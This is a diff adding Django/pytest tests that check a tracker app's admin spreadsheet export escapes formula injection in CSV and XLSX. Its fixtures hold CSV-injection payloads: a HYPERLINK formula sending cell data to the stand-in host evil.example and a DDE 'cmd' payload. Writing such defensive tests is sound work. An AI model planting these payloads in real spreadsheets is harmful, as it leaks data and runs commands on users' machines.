@@ -1,6 +1,10 @@
 """Spreadsheet import and export through the admin pages, as an administrator uses them."""
 
+import io
+
+import openpyxl
 import pytest
+import tablib
 from django.conf import settings
 from django.contrib.admin.models import LogEntry
 from django.contrib.messages import ERROR, SUCCESS
@@ -12,6 +16,8 @@ from tracker.models import Program, Sector
 
 # The format choices follow SpreadsheetAdmin.formats: CSV, then XLSX.
 CSV, XLSX = "0", "1"
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 
 
 @pytest.fixture(autouse=True)
@@ -36,6 +42,27 @@ def confirm(admin_client, model, previewed):
 
 def messages_of(response):
     return [(m.level, str(m)) for m in response.context["messages"]]
+
+
+def export(admin_client, fmt):
+    """The admin's export form posted with every program column ticked."""
+    columns = {f"programresource_{name}": "on" for name in ProgramResource().get_export_order()}
+    url = reverse("admin:tracker_program_export")
+    response = admin_client.post(url, {"format": fmt, "resource": "0", **columns})
+    assert response.status_code == 200
+    return response
+
+
+def exported_csv_row(admin_client):
+    [row] = tablib.Dataset().load(export(admin_client, CSV).content.decode(), format="csv").dict
+    return row
+
+
+def first_row_cells(workbook):
+    """The first program's cells, by column name."""
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
+    headers, first = list(sheet.iter_rows(max_row=2))
+    return {header.value: cell for header, cell in zip(headers, first, strict=True)}
 
 
 # --- Confirming a preview whose rows have since become invalid ---------------------------------
@@ -86,3 +113,61 @@ def test_a_program_whose_authority_was_renamed_after_the_preview_is_not_imported
     assert [row.number for row in response.context["result"].invalid_rows] == [1, 2]
     assert "Nothing named “广西壮族自治区科学技术厅” exists." in response.content.decode()
     assert not Program.objects.filter(slug="next-2026").exists()
+
+
+# --- Formulae in exported cells ------------------------------------------------------------------
+
+
+@pytest.fixture
+def booby_trapped(pilot_base):
+    """Texts as they might arrive in a pasted notice or an imported file."""
+    Program.objects.filter(pk=pilot_base.pk).update(
+        summary_zh=HYPERLINK,
+        summary_en="==1+1",
+        title_en="+1+2",
+        short_name_en="-2+3+cmd|' /C calc'!A0",
+        contact_en="@SUM(1+1)",
+    )
+
+
+def test_a_formula_is_exported_to_csv_without_its_equals_sign(admin_client, booby_trapped):
+    row = exported_csv_row(admin_client)
+    # The library's escaping drops the leading "=", which leaves plain text.
+    assert row["summary_zh"] == HYPERLINK[1:]
+    assert row["summary_en"] == "1+1"
+
+
+def test_csv_cells_excel_would_evaluate_start_with_an_apostrophe(admin_client, booby_trapped):
+    row = exported_csv_row(admin_client)
+    assert row["title_en"] == "'+1+2"
+    assert row["short_name_en"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["contact_en"] == "'@SUM(1+1)"
+
+
+def test_a_formula_is_exported_to_xlsx_as_a_text_cell(admin_client, booby_trapped):
+    cells = first_row_cells(export(admin_client, XLSX).content)
+    assert cells["summary_zh"].data_type == "s"
+    assert cells["summary_zh"].value == HYPERLINK[1:]
+    # The library would drop one "=" only, leaving a formula.
+    assert (cells["summary_en"].value, cells["summary_en"].data_type) == ("1+1", "s")
+    # In a workbook only "=" starts a formula: the other texts are text cells as they are.
+    assert (cells["title_en"].value, cells["title_en"].data_type) == ("+1+2", "s")
+    assert cells["contact_en"].value == "@SUM(1+1)"
+
+
+def test_an_undated_program_exports_to_xlsx_with_empty_cells_and_imports_back(
+    admin_client, pilot_base
+):
+    Program.objects.filter(pk=pilot_base.pk).update(
+        is_published=False, deadline=None, max_co_builders=None
+    )
+    content = export(admin_client, XLSX).content
+    cells = first_row_cells(content)
+    assert cells["deadline"].value is None
+    assert cells["max_co_builders"].value is None
+
+    previewed = preview(admin_client, "program", content, "programs.xlsx", fmt=XLSX)
+    assert not previewed.context["result"].has_validation_errors()
+    confirm(admin_client, "program", previewed)
+    pilot_base.refresh_from_db()
+    assert (pilot_base.deadline, pilot_base.max_co_builders) == (None, None)
